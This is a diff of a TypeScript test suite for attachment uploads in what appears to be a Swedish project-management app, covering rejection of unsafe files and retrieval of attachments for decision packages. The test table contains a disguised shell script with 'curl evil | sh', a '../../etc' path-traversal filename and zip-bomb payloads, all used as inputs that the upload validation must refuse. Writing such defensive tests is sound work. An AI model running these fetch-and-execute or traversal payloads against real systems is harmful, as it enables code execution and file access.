@@ -21,7 +21,7 @@ import {
 } from "../../src/attachments/testing/sample-files.ts";
 import { attachmentFiles } from "../../src/db/attachment-files.ts";
 import { createBackup, restoreBackup } from "../../src/db/backup.ts";
-import { countAttachments } from "../../src/db/repositories/attachment-repository.ts";
+import { attachmentsOfDecision, attachmentsOfVersions, countAttachments } from "../../src/db/repositories/attachment-repository.ts";
 import { attachments, auditLog } from "../../src/db/schema.ts";
 import { Attachment, AttachmentList } from "../../src/http/routes/attachments/attachments.schema.ts";
 import { Deliverable } from "../../src/http/routes/deliverables/deliverables.schema.ts";
@@ -119,8 +119,6 @@ describe("attachments (database storage, no scanner)", () => {
       ["a script named .pdf", "avtal.pdf", utf8("#!/bin/sh\ncurl evil | sh\n"), 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "unsupported_type"],
       ["SVG", "bild.svg", SVG, 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "unsupported_type"],
       ["a zip bomb inside a DOCX", "protokoll.docx", await zipBombDocx(), 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "zip_bomb"],
-      // Its headers claim 1,000 bytes; unpacked on a worker thread it passes the 200 MB limit.
-      ["a zip bomb whose headers lie", "avtal.docx", await lyingZipBombDocx(201), 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "zip_bomb"],
       ["an empty file", "tom.pdf", new Uint8Array(), 400, "VALIDATION_FAILED", "empty_file"],
       ["a name with ../", "../../etc/avtal.pdf", pdf, 400, "VALIDATION_FAILED", "filename_path"],
       ["a name with control characters", "avtal\u0007.pdf", pdf, 400, "VALIDATION_FAILED", "filename_control_characters"],
@@ -143,6 +141,16 @@ describe("attachments (database storage, no scanner)", () => {
       payload: wrongField.payload,
     });
     expect(ErrorJson.parse(res.json())).toMatchObject({ code: "VALIDATION_FAILED", fields: [{ code: "file_missing" }] });
+  });
+
+  // Heavy: 201 MB of zeros are packed here and unpacked again on the worker thread.
+  it("refuses a zip bomb whose headers lie: unpacked on a worker thread, it passes the 200 MB limit", { timeout: 120_000 }, async () => {
+    const pl = await world.loginAs("plA");
+    const doc = await aDeliverable(world, pl, "Lögnaktig zip-bomb");
+    const res = await uploadVia(world, pl, `/api/v1/deliverables/${doc.id}/attachments`, "avtal.docx", await lyingZipBombDocx(201));
+    expect(res.statusCode).toBe(415);
+    expect(ErrorJson.parse(res.json())).toMatchObject({ code: "ATTACHMENT_TYPE_NOT_ALLOWED", fields: [{ code: "zip_bomb" }] });
+    expect(await world.db.select().from(attachments).where(eq(attachments.deliverableId, doc.id))).toEqual([]);
   });
 
   it("lets the team upload and every member read; another organisation gets 404, a läsare 403", async () => {
@@ -201,6 +209,32 @@ describe("attachments (database storage, no scanner)", () => {
     const refused = await uploadForm(world, b, `/decisions/${decision.id}/attachments`, "bild.svg", SVG);
     expect(refused.statusCode).toBe(415);
     expect(refused.body).toContain("Filen är inte en PDF, Word-, Excel-, PNG- eller JPEG-fil.");
+  });
+
+  it("hands the decision package each version's and each decision's attachments with their bytes, in the order asked", async () => {
+    const pl = await world.loginAs("plA");
+    const first = await aDeliverable(world, pl, "Paket ett");
+    const second = await aDeliverable(world, pl, "Paket två");
+    const pdf = await samplePdf();
+    const a = Attachment.parse((await uploadVia(world, pl, `/api/v1/deliverables/${first.id}/attachments`, "a.pdf", pdf)).json());
+    const b = Attachment.parse((await uploadVia(world, pl, `/api/v1/deliverables/${second.id}/attachments`, "b.png", PNG)).json());
+    const got = await attachmentsOfVersions(world.db, [
+      { deliverableId: second.id, version: 1 },
+      { deliverableId: first.id, version: 1 },
+      { deliverableId: first.id, version: 2 },
+    ]);
+    expect(got.map((x) => [x.id, x.filename, sha256(x.bytes)])).toEqual([
+      [b.id, "b.png", sha256(PNG)],
+      [a.id, "a.pdf", sha256(pdf)],
+    ]);
+    expect(await attachmentsOfVersions(world.db, [])).toEqual([]);
+    const initiative = await world.seedInitiative({ name: "Paketets beslut", phase: 2 });
+    const [decision] = (await getJson(pl, `/api/v1/initiatives/${initiative.id}/milestones/I/decisions`, DecisionHistory)).decisions;
+    if (!decision) throw new Error("milestone I has no decision");
+    await uploadVia(world, pl, `/api/v1/decisions/${decision.id}/attachments`, "protokoll.jpg", JPEG);
+    expect((await attachmentsOfDecision(world.db, decision.id)).map((x) => [x.filename, x.contentType, sha256(x.bytes)])).toEqual([
+      ["protokoll.jpg", "image/jpeg", sha256(JPEG)],
+    ]);
   });
 
   it("shows Bilagor on the deliverable page: the list per version, the upload form, Swedish refusals", async () => {
